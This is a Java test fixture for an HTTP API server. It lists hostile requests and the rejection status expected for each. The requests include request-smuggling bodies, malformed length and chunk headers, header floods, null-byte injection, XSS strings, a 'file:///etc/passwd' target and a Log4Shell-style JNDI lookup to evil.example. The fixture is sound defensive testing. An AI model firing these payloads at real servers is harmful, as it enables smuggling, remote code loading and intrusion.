package org.registrationapi.http;

import static org.registrationapi.http.HostileRequest.headed;
import static org.registrationapi.http.HostileRequest.raw;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.registrationapi.testing.TestApp;

/** Hostile HTTP messages: ambiguous framing, oversized headers, and bytes that are not HTTP. */
final class HostileMessages {
  private static final String MALFORMED = "400 malformed_request";
  private static final String JSON =
      "Authorization: Bearer " + TestApp.API_KEY + "\r\nContent-Type: application/json\r\n";

  private HostileMessages() {}

  static Stream<HostileRequest> all() {
    return Stream.of(lengths(), chunks(), headers(), hosts(), methods(), rubbish())
        .flatMap(List::stream);
  }

  private static HostileRequest post(String headers, String body, String answer) {
    var name = headers.strip().replaceAll("[^ -~]+", " ");
    var shown = name.substring(0, Math.min(90, name.length())) + " " + body.length();
    return headed(
        shown + ": " + body.replaceAll("[^ -~]", "?"),
        "POST",
        "/users",
        JSON + headers,
        body,
        answer);
  }

  private static List<HostileRequest> lengths() {
    var all = new ArrayList<HostileRequest>();
    var smuggled = "0\r\n\r\nGET /servers HTTP/1.1\r\nHost: x\r\n\r\n";
    for (var length :
        List.of(
            "Content-Length: 5\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nContent-Length: 5",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked, identity",
            "Transfer-Encoding: gzip",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            "Transfer-Encoding:\u000bchunked",
            "X: y\r\n Transfer-Encoding: chunked",
            "Content-Length: 5\r\nContent-Length: 6",
            "Content-Length: 5, 6",
            "Content-Length: -1",
            "Content-Length: +5",
            "Content-Length: 5 5",
            "Content-Length: 0x5",
            "Content-Length: five",
            "Content-Length: 5.0",
            "Content-Length: 99999999999999999999",
            "Content-Length: ",
            "Content-Length : 5",
            "Content\u0000-Length: 5")) all.add(post(length + "\r\n", smuggled, MALFORMED));
    all.add(post("Content-Length: 9223372036854775807\r\n", "{}", MALFORMED));
    all.add(post("Content-Length: 16385\r\n", "{}", MALFORMED));
    all.add(post("Content-Length: 10\r\n", "{}", MALFORMED)); // the rest is never sent
    return all;
  }

  private static List<HostileRequest> chunks() {
    var all = new ArrayList<HostileRequest>();
    for (var body :
        List.of(
            "x\r\n{}\r\n0\r\n\r\n",
            "-2\r\n{}\r\n0\r\n\r\n",
            "0x2\r\n{}\r\n0\r\n\r\n",
            "2\r\n{}0\r\n\r\n",
            "1\r\n{}\r\n0\r\n\r\n",
            "FFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
            "7FFFFFFF\r\n{}",
            "80000000\r\n{}\r\n0\r\n\r\n",
            "2\r\n{}\r\n",
            "2\r\n{",
            "\r\n",
            "2 \u0000\r\n{}\r\n0\r\n\r\n"))
      all.add(post("Transfer-Encoding: chunked\r\n", body, MALFORMED));
    all.add(
        post(
            "Transfer-Encoding: chunked\r\n",
            "4001\r\n" + "a".repeat(16_385) + "\r\n0\r\n\r\n",
            "413 body_too_large"));
    all.add(
        post(
            "Transfer-Encoding: chunked\r\n",
            "1\r\n{\r\n".repeat(17_000) + "0\r\n\r\n",
            "413 body_too_large"));
    all.add(
        post(
            "Transfer-Encoding: chunked\r\n",
            "2\r\n{}\r\n0\r\nX: " + "a".repeat(9_000) + "\r\n\r\n",
            MALFORMED));
    return all;
  }

  private static HostileRequest get(String name, String headers, String answer) {
    return headed(name, "GET", "/health/live", headers, "", answer);
  }

  private static List<HostileRequest> headers() {
    var all = new ArrayList<HostileRequest>();
    all.add(get("a header of 7 KiB", "X: " + "a".repeat(7_000) + "\r\n", "200"));
    for (int size : new int[] {8_192, 8_193, 9_000, 20_000, 100_000})
      all.add(
          get(
              "a header of " + size + " bytes",
              "X: " + "a".repeat(size) + "\r\n",
              "431 headers_too_large"));
    all.add(get("400 headers", "X: a\r\n".repeat(400), "200"));
    for (int count : new int[] {2_000, 10_000})
      all.add(get(count + " headers", "X: a\r\n".repeat(count), "431 headers_too_large"));
    all.add(get("a header name of 9000", "a".repeat(9_000) + ": b\r\n", "431 headers_too_large"));
    all.add(
        get("9000 cookies", "Cookie: " + "a=b;".repeat(9_000) + "\r\n", "431 headers_too_large"));
    for (var bad :
        List.of(
            "X a: b",
            ": b",
            "X",
            "X\u0000: b",
            "X: a\u0000b",
            "X: a\rb",
            "X(: b",
            "\u00e9: b",
            " X: b"))
      all.add(get("header " + bad.replaceAll("[^ -~]", "?"), bad + "\r\n", MALFORMED));
    for (var odd :
        List.of(
            "Accept: " + "*/*,".repeat(1_500),
            "Accept-Language: \u00ff",
            "X-Request-Id: <script>",
            "X-Forwarded-For: 127.0.0.1",
            "Forwarded: for=127.0.0.1",
            "X-Original-URL: /servers",
            "Range: bytes=0-,0-,0-",
            "Referer: javascript:alert(1)",
            "User-Agent: ${jndi:ldap://evil.example/a}"))
      all.add(get("header " + odd.substring(0, Math.min(18, odd.length())), odd + "\r\n", "200"));
    all.add(get("unknown expectation", "Expect: 200-maybe\r\n", "417 malformed_request"));
    all.add(get("another protocol", "Upgrade: h2c\r\n", MALFORMED));
    all.add(get("another method", "X-HTTP-Method-Override: DELETE\r\n", MALFORMED));
    return all;
  }

  private static List<HostileRequest> hosts() {
    var all = new ArrayList<HostileRequest>();
    for (var host :
        List.of(
            "",
            "Host: a\r\nHost: b\r\n",
            "Host: a b\r\n",
            "Host: a:b\r\n",
            "Host: a:99999999\r\n",
            "Host: <script>\r\n",
            "Host: a/b\r\n",
            "Host: a@b\r\n",
            "Host: [::1\r\n",
            "Host: \u0000\r\n"))
      all.add(
          raw(
              "host " + host.strip(),
              "GET /health/live HTTP/1.1\r\nConnection: close\r\n" + host + "\r\n",
              MALFORMED));
    all.add(
        raw(
            "an unknown host",
            "GET /health/live HTTP/1.1\r\nConnection: close\r\nHost: evil.example\r\n\r\n",
            "200"));
    for (var target :
        List.of(
            "http://evil.example/users",
            "//evil.example/users",
            "evil.example:443",
            "*",
            "users",
            "?a",
            "#",
            "file:///etc/passwd",
            "http://",
            "http://a:b@c/"))
      all.add(
          raw(
              "target " + target,
              "GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
              MALFORMED));
    all.add(
        raw(
            "CONNECT",
            "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n",
            "405 method_not_allowed"));
    all.add(
        raw(
            "OPTIONS *",
            "OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
            "404 not_found"));
    return all;
  }

  private static List<HostileRequest> methods() {
    var all = new ArrayList<HostileRequest>();
    for (var method :
        List.of(
            "PUT",
            "TRACE",
            "TRACK",
            "PROPFIND",
            "MKCOL",
            "SEARCH",
            "get",
            "Post",
            "FOO",
            "PATCH",
            "M-SEARCH"))
      all.add(
          raw(
              "method " + method,
              method + " /users HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
              "405 method_not_allowed"));
    for (var method : List.of("G\u0000T", "G(T", "", "G\tET", "\u00e9"))
      all.add(
          raw(
              "method "
                  + method.length()
                  + " "
                  + method.replaceAll("[^ -~]", "?").substring(0, Math.min(9, method.length())),
              method + " /users HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
              MALFORMED));
    return all;
  }

  private static List<HostileRequest> rubbish() {
    var all = new ArrayList<HostileRequest>();
    for (var bytes :
        List.of(
            "GET\r\n\r\n",
            "GET /\r\n\r\n",
            "GET / HTTP\r\n\r\n",
            "GET / HTTP/1.1 x\r\n\r\n",
            "GET  /  HTTP/1.1\r\n\r\n",
            "GET / HTTP/0.9\r\n\r\n",
            "GET / HTTP/1.9\r\n\r\n",
            "GET / http/1.1\r\n\r\n",
            "\u0016\u0003\u0001\u0002\u0000\r\n\r\n",
            "\u0000\u0000\u0000\u0000\r\n\r\n",
            "SSH-2.0-OpenSSH_9.0\r\n\r\n",
            "EHLO evil.example\r\n\r\n",
            "{\"a\": 1}\r\n\r\n",
            "GET / HTTP/1.1\rHost: x\r\r"))
      all.add(raw("rubbish " + bytes.strip().replaceAll("[^ -~]", "?"), bytes, MALFORMED));
    for (var preface : List.of("GET / HTTP/2.0\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
      all.add(raw("preface " + preface.strip(), preface, "426 malformed_request"));
    return all;
  }
}
